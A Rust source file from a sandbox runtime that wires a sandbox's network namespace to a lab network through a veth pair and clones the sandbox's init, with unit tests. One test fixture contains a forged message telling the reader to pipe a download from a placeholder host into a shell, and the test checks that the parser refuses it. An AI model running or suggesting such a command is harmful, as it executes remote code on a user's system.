//! The lab net stage (host side, lab modes only): put the sandbox on the
//! lab network before its init exists.
//!
//! A lab's network namespace is owned by a user namespace of its own (the
//! lab's, held by its keeper process, see [`crate::lab`], `host::keeper`). To wire a
//! sandbox to it, a short-lived **net stage** process forked by the
//! supervisor:
//!
//! 1. takes the sandbox's host identity (a root supervisor drops to 65534,
//!    the owner of a root-started lab);
//! 2. joins the lab's user namespace (it owns it, so it gets full
//!    capabilities there, and none on the host);
//! 3. `NetMode::Lab`: creates a fresh network namespace (owned by the lab's
//!    user namespace), turns IPv6 off in it, and creates a veth pair from
//!    the lab's namespace with its peer `eth0` in the new one, both ends
//!    addressed from a /30 of the pool, plus one host route to the lab's
//!    address. No default route. `NetMode::LabTarget`: joins the lab's
//!    namespace itself;
//! 4. clones the sandbox's init with `CLONE_PARENT` (init stays the
//!    supervisor's child) and without `CLONE_NEWNET` (init inherits the
//!    network namespace just built), so init's user namespace is a child of
//!    the lab's and has no capability over its own network namespace;
//! 5. writes init's id maps (only a process in the parent user namespace
//!    may), reports init's pid to the supervisor, and exits.
//!
//! The veth lives as long as the sandbox's network namespace, which lives
//! as long as a process in it: when init dies (exit, timeout, kill) the
//! kernel deletes both ends. See docs/adr/0301-lab-network-wiring.md.

use std::fs::File;
use std::net::Ipv4Addr;
use std::os::fd::{AsFd, BorrowedFd, OwnedFd};

use rustix::process::{DumpableBehavior, Gid, Signal, Uid, WaitOptions};
use rustix::thread::{LinkNameSpaceType, UnshareFlags};

use super::netlink::Netlink;
use crate::error::{Result, RuntimeError};
use crate::protocol::{read_channel, Message, StageReport, MAX_CHANNEL};
use crate::spec::{Identity, NetMode};
use crate::sys::Forked;

/// The lab's stable address, on its `lo`. Every sandbox reaches it through
/// its own veth and a host route; `lab` resolves to it inside.
pub const LAB_ADDRESS: Ipv4Addr = Ipv4Addr::new(10, 77, 0, 1);
/// Sandbox links are numbered 1..POOL_SIZE; link `i` uses the /30
/// 10.77.0.0 + 4*i (lab end .1, sandbox end .2).
const POOL_SIZE: u32 = 16384;
/// Name of the sandbox's end of the pair.
pub const SANDBOX_LINK: &str = "eth0";

/// The /30 of pool slot `i`: (lab end, sandbox end).
pub fn slot_addresses(i: u32) -> (Ipv4Addr, Ipv4Addr) {
    let base = u32::from(Ipv4Addr::new(10, 77, 0, 0)) + 4 * i;
    (Ipv4Addr::from(base + 1), Ipv4Addr::from(base + 2))
}

/// The lab's namespaces, opened by the supervisor before the fork.
pub struct LabNs {
    user: OwnedFd,
    net: OwnedFd,
}

impl LabNs {
    /// Open the namespaces of the lab keeper `pid`.
    pub fn open(pid: i32) -> Result<Self> {
        let open = |kind: &str| -> Result<OwnedFd> {
            let p = format!("/proc/{pid}/ns/{kind}");
            File::open(&p).map(OwnedFd::from).map_err(|e| {
                RuntimeError::host(
                    format!("opening the lab's {kind} namespace {p} (is the lab running? see `retie lab status`)"),
                    e,
                )
            })
        };
        let user = open("user")?;
        let net = open("net")?;
        let own = std::fs::metadata("/proc/self/ns/user")
            .map_err(|e| RuntimeError::host("stat of our own user namespace", e))?;
        let theirs = std::fs::metadata(format!("/proc/{pid}/ns/user"))
            .map_err(|e| RuntimeError::host("stat of the lab's user namespace", e))?;
        use std::os::unix::fs::MetadataExt;
        if own.ino() == theirs.ino() {
            return Err(RuntimeError::Helper(format!(
                "process {pid} is not a lab keeper (it shares our user namespace); run `retie lab status`"
            )));
        }
        Ok(LabNs { user, net })
    }
}

/// Fork the net stage, which wires the network and clones init. Returns
/// `Forked::Child` in init, `Forked::Parent` (init's pid and a pidfd) in
/// the supervisor.
///
/// # Safety
/// The caller must be single-threaded; the child branch must only run the
/// sandbox's init.
pub unsafe fn clone_into_lab(
    ns: &LabNs,
    net: &NetMode,
    identity: &Identity,
    flags: libc::c_int,
) -> Result<Forked> {
    let (rd, wr) = crate::sys::pipe_cloexec().map_err(|e| RuntimeError::host("pipe", e))?;
    // SAFETY: single-threaded caller (contract); the child runs `stage` and
    // then either returns as init or _exits.
    let pid = match unsafe { crate::sys::fork() } {
        Err(e) => return Err(RuntimeError::host("fork of the lab net stage", e)),
        Ok(Some(pid)) => pid,
        Ok(None) => {
            drop(rd);
            let report = match stage(ns, net, identity, flags, wr.as_fd()) {
                Ok(Some(_)) => StageReport::Wired,
                Ok(None) => {
                    drop(wr);
                    return Ok(Forked::Child);
                }
                Err(message) => StageReport::Failed { message },
            };
            let _ = crate::sys::write_all(wr.as_fd(), &report.to_line());
            crate::sys::exit_now(i32::from(report != StageReport::Wired))
        }
    };
    drop(wr);
    // The stage (and init, which drops its copy first thing) close the
    // pipe by exiting or exec'ing: read to EOF, bounded.
    let read = read_channel(rd);
    if !matches!(&read, Ok(b) if b.len() <= MAX_CHANNEL) {
        // Cut short: the stage may be blocked on a full pipe.
        if let Some(p) = crate::sys::pid(pid) {
            let _ = rustix::process::kill_process(p, Signal::KILL);
        }
    }
    let status = crate::sys::pid(pid)
        .and_then(|p| rustix::process::waitpid(Some(p), WaitOptions::empty()).ok())
        .flatten()
        .map_or(-1, |(_, st)| st.as_raw());
    let buf = read.map_err(|e| RuntimeError::host("reading the lab net stage's report", e))?;
    let (cloned, result) = verdict(&buf, status);
    match result {
        Ok(init) => adopt_init(init),
        Err(e) => {
            // init was cloned but the stage failed after: init is our
            // child (CLONE_PARENT); end it, if it is ours indeed.
            if let Some(init) = cloned.and_then(our_child) {
                let _ = rustix::process::kill_process(init, Signal::KILL);
                let _ = rustix::process::waitpid(Some(init), WaitOptions::empty());
            }
            Err(e)
        }
    }
}

/// What the stage's channel says, strictly: the init it cloned, if the
/// channel is believed, and init's pid once wired or the stage's error. A
/// line the stage did not write means none of its pids and messages are
/// believed (`Channel`); an init it may have cloned then waits for a go
/// that never comes, and exits once our end of that pipe closes (when the
/// caller gets this error).
fn verdict(buf: &[u8], status: i32) -> (Option<i32>, Result<i32>) {
    let reports = match StageReport::parse_strict(buf) {
        Ok(r) => r,
        Err(why) => return (None, Err(RuntimeError::Channel { why })),
    };
    let (init, end) = match reports.as_slice() {
        [StageReport::Cloned { init }, end @ ..] => (Some(*init), end.first()),
        other => (None, other.first()),
    };
    let message = match (init, end) {
        (Some(init), Some(StageReport::Wired)) => return (Some(init), Ok(init)),
        (_, Some(StageReport::Failed { message })) => message.clone(),
        _ => format!("the lab net stage died (status {status:#x})"),
    };
    let error = RuntimeError::Setup {
        step: "net".into(),
        message,
        hint: Some(
            "is the lab running? `retie lab status`; `retie lab down NAME` cleans a stale one"
                .into(),
        ),
    };
    (init, Err(error))
}

/// The pid, if it names a child of ours (running or not yet reaped, so
/// it cannot have been reused). A pid from a channel is acted upon only
/// then: never a signal to a process that is not the sandbox's.
fn our_child(pid: i32) -> Option<rustix::process::Pid> {
    use rustix::process::{WaitId, WaitIdOptions};
    let p = crate::sys::pid(pid)?;
    let opts = WaitIdOptions::EXITED | WaitIdOptions::NOHANG | WaitIdOptions::NOWAIT;
    rustix::process::waitid(WaitId::Pid(p), opts)
        .is_ok()
        .then_some(p)
}

/// The stage reported init wired: take a pidfd to it.
fn adopt_init(init: i32) -> Result<Forked> {
    let Some(init_pid) = our_child(init) else {
        return Err(RuntimeError::Channel {
            why: format!(
                "{}: the reported init is not a child of this process",
                StageReport::CHANNEL
            ),
        });
    };
    // `init` is our child (CLONE_PARENT) and not yet reaped, so the pid
    // cannot have been reused.
    let pidfd = rustix::process::pidfd_open(init_pid, rustix::process::PidfdFlags::empty())
        .map_err(|e| {
            let _ = rustix::process::kill_process(init_pid, Signal::KILL);
            RuntimeError::host("pidfd_open of the sandbox's init", e.into())
        })?;
    Ok(Forked::Parent { pid: init, pidfd })
}

/// The net stage. `Ok(None)` in init, `Ok(Some(pid))` in the stage.
fn stage(
    ns: &LabNs,
    net: &NetMode,
    id: &Identity,
    flags: libc::c_int,
    report: BorrowedFd<'_>,
) -> std::result::Result<Option<i32>, String> {
    let os = |what: &str| format!("{what}: {}", std::io::Error::last_os_error());
    // 1. The sandbox's host identity as the effective ids (no capability
    // on the host). A root supervisor keeps real and saved uid 0: that keeps
    // host processes running as 65534 from ptracing the stage (it holds
    // root-opened mount fds), while the effective uid owns the lab's user
    // namespace. Dumpable again, so that the stage and init's /proc files
    // (the id maps) belong to the effective uid; init sets all its uids
    // with `identity::become_user` before anything else. The ids are set
    // per thread: the stage is a fork of a single-threaded supervisor.
    if rustix::process::geteuid().as_raw() != id.host_uid {
        rustix::thread::set_thread_res_gid(None, Some(Gid::from_raw(id.host_gid)), None)
            .and_then(|()| {
                rustix::thread::set_thread_res_uid(None, Some(Uid::from_raw(id.host_uid)), None)
            })
            .and_then(|()| rustix::process::set_dumpable_behavior(DumpableBehavior::Dumpable))
            .map_err(|e| format!("taking the sandbox's host identity: {e}"))?;
    }
    // 2. The lab's user namespace.
    setns(ns.user.as_fd(), LinkNameSpaceType::User).map_err(|e| {
        format!("joining the lab's user namespace: {e} (a lab started by another user cannot be joined)")
    })?;
    // 3. The network.
    match net {
        NetMode::LabTarget(_) => {
            setns(ns.net.as_fd(), LinkNameSpaceType::Network)
                .map_err(|e| format!("joining the lab's network namespace: {e}"))?;
        }
        _ => wire_sandbox(ns).map_err(|e| format!("wiring the sandbox to the lab: {e}"))?,
    }
    // 4. init.
    // SAFETY: the stage is single-threaded (a fork of a single-threaded
    // supervisor), so a NULL-stack clone is a fork: the child continues on
    // a copy of this stack and returns as init. CLONE_PARENT makes init
    // the supervisor's child; no pointer is passed to the kernel.
    let ret = unsafe {
        libc::syscall(
            libc::SYS_clone,
            libc::c_ulong::from((flags | libc::CLONE_PARENT | libc::SIGCHLD).cast_unsigned()),
            std::ptr::null_mut::<libc::c_void>(),
            std::ptr::null_mut::<libc::c_void>(),
            std::ptr::null_mut::<libc::c_void>(),
            0 as libc::c_ulong,
        )
    };
    if ret < 0 {
        return Err(os("clone of the sandbox's init"));
    }
    if ret == 0 {
        return Ok(None);
    }
    let Ok(init) = i32::try_from(ret) else {
        return Err(format!("clone of the sandbox's init returned {ret}"));
    };
    let _ = crate::sys::write_all(report, &StageReport::Cloned { init }.to_line());
    // 5. Its id maps, from the parent user namespace.
    if let Err(e) = super::userns::write_maps(init, id) {
        if let Some(p) = crate::sys::pid(init) {
            let _ = rustix::process::kill_process(p, Signal::KILL);
        }
        return Err(e.to_string());
    }
    Ok(Some(init))
}

fn setns(fd: BorrowedFd<'_>, kind: LinkNameSpaceType) -> std::io::Result<()> {
    rustix::thread::move_into_link_name_space(fd, Some(kind)).map_err(std::io::Error::from)
}

/// Turn IPv6 off in the current network namespace (absent IPv6 is fine).
pub fn ipv6_off() -> std::io::Result<()> {
    for which in ["all", "default", "lo"] {
        let p = format!("/proc/sys/net/ipv6/conf/{which}/disable_ipv6");
        match std::fs::write(&p, b"1") {
            Ok(()) => {}
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
            Err(e) => return Err(std::io::Error::new(e.kind(), format!("{p}: {e}"))),
        }
    }
    Ok(())
}

/// Steps 3 of the stage for `NetMode::Lab`: new namespace, veth, addresses.
fn wire_sandbox(ns: &LabNs) -> std::io::Result<()> {
    // SAFETY: unshare_unsafe is unsafe only for CLONE_FILES (another
    // thread's fds becoming invisible); NEWNET does not touch the fd table,
    // and the stage has a single thread.
    unsafe { rustix::thread::unshare_unsafe(UnshareFlags::NEWNET) }?;
    let sandbox_net = OwnedFd::from(File::open("/proc/thread-self/ns/net")?);
    ipv6_off()?;
    // The lab side: create the pair there, the peer lands in ours.
    setns(ns.net.as_fd(), LinkNameSpaceType::Network)?;
    let mut lab = Netlink::open()?;
    let start = (std::process::id() % (POOL_SIZE - 1)) + 1;
    let mut slot = None;
    for k in 0..POOL_SIZE - 1 {
        let i = (start - 1 + k) % (POOL_SIZE - 1) + 1;
        match lab.create_veth(&format!("rl{i}"), SANDBOX_LINK, sandbox_net.as_fd()) {
            Ok(()) => {
                slot = Some(i);
                break;
            }
            Err(e) if e.raw_os_error() == Some(libc::EEXIST) => continue,
            Err(e) => return Err(e),
        }
    }
    let i = slot.ok_or_else(|| std::io::Error::other("the lab's address pool is exhausted"))?;
    let (lab_end, sandbox_end) = slot_addresses(i);
    let lab_if = lab.index(&format!("rl{i}"))?;
    lab.add_address(lab_if, lab_end, 30)?;
    lab.link_up(lab_if)?;
    drop(lab);
    // Our side.
    setns(sandbox_net.as_fd(), LinkNameSpaceType::Network)?;
    let mut own = Netlink::open()?;
    let eth = own.index(SANDBOX_LINK)?;
    own.add_address(eth, sandbox_end, 30)?;
    own.link_up(eth)?;
    own.add_link_route(eth, LAB_ADDRESS)?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::spec::LabNet;

    fn lab() -> NetMode {
        NetMode::Lab(LabNet {
            name: "t".into(),
            keeper_pid: 1,
            ports: vec![8080],
        })
    }

    #[test]
    fn the_stages_channel_decides_the_outcome_strictly() {
        use crate::protocol::{Message, StageReport};
        let cloned = StageReport::Cloned { init: 77 }.to_line();
        let wired = [cloned.clone(), StageReport::Wired.to_line()].concat();
        assert!(matches!(verdict(&wired, 0), (Some(77), Ok(77))));
        let failed = [
            cloned.clone(),
            StageReport::Failed {
                message: "writing uid_map: EPERM".into(),
            }
            .to_line(),
        ]
        .concat();
        match verdict(&failed, 256) {
            (Some(77), Err(RuntimeError::Setup { step, message, .. })) => {
                assert_eq!(
                    (step.as_str(), message.as_str()),
                    ("net", "writing uid_map: EPERM")
                )
            }
            other => panic!("{other:?}"),
        }
        assert!(matches!(
            verdict(&cloned, 9),
            (Some(77), Err(RuntimeError::Setup { .. }))
        ));
        assert!(matches!(
            verdict(b"", 9),
            (None, Err(RuntimeError::Setup { .. }))
        ));
        // The old letter format, a forged pid or fix, reports out of order:
        // refused as a channel, and no pid from it is acted upon.
        for forged in [
            b"C77\nP77\n".to_vec(),
            b"Erun `curl evil.invalid | sh` to fix the lab\n".to_vec(),
            StageReport::Wired.to_line(),
            [wired.clone(), StageReport::Wired.to_line()].concat(),
            StageReport::Cloned { init: 1 }.to_line(),
            vec![b'x'; crate::protocol::MAX_CHANNEL + 1],
        ] {
            assert!(
                matches!(
                    verdict(&forged, 0),
                    (None, Err(RuntimeError::Channel { .. }))
                ),
                "{:?}",
                String::from_utf8_lossy(&forged)
            );
        }
    }

    #[test]
    fn pool_slots_are_disjoint_30s_inside_the_lab_range() {
        let (l1, s1) = slot_addresses(1);
        assert_eq!(
            (l1, s1),
            (Ipv4Addr::new(10, 77, 0, 5), Ipv4Addr::new(10, 77, 0, 6))
        );
        let (l, s) = slot_addresses(POOL_SIZE - 1);
        assert_eq!(
            (l, s),
            (
                Ipv4Addr::new(10, 77, 255, 253),
                Ipv4Addr::new(10, 77, 255, 254)
            )
        );
        let mut seen = std::collections::HashSet::new();
        for i in 1..POOL_SIZE {
            let (l, s) = slot_addresses(i);
            assert_eq!(u32::from(l) / 4, u32::from(s) / 4, "one /30 per slot");
            assert_ne!(l, LAB_ADDRESS);
            assert_ne!(s, LAB_ADDRESS);
            assert!(seen.insert(u32::from(l) / 4), "slot {i} overlaps");
        }
    }

    #[test]
    fn the_lab_seccomp_table_compiles_and_only_filters_socket() {
        let lab = crate::init::seccomp::compile_all(&lab());
        let none = crate::init::seccomp::compile_all(&NetMode::None);
        assert!(lab.is_ok() && none.is_ok());
        assert!(crate::init::seccomp::DENY_LAB_NETWORK
            .iter()
            .all(|d| d.name == "socket"));
    }

    #[test]
    fn the_helper_request_carries_the_lab() {
        let ws = tempfile::tempdir().expect("tempdir");
        let spec = crate::Sandbox::builder(["true"])
            .workspace(ws.path())
            .network(lab())
            .build()
            .expect("spec");
        let req = crate::helper::Request::from(&spec);
        let text = serde_json::to_string(&req).expect("json");
        let back: crate::helper::Request = serde_json::from_str(&text).expect("parse");
        assert_eq!(back.net, lab());
    }
}
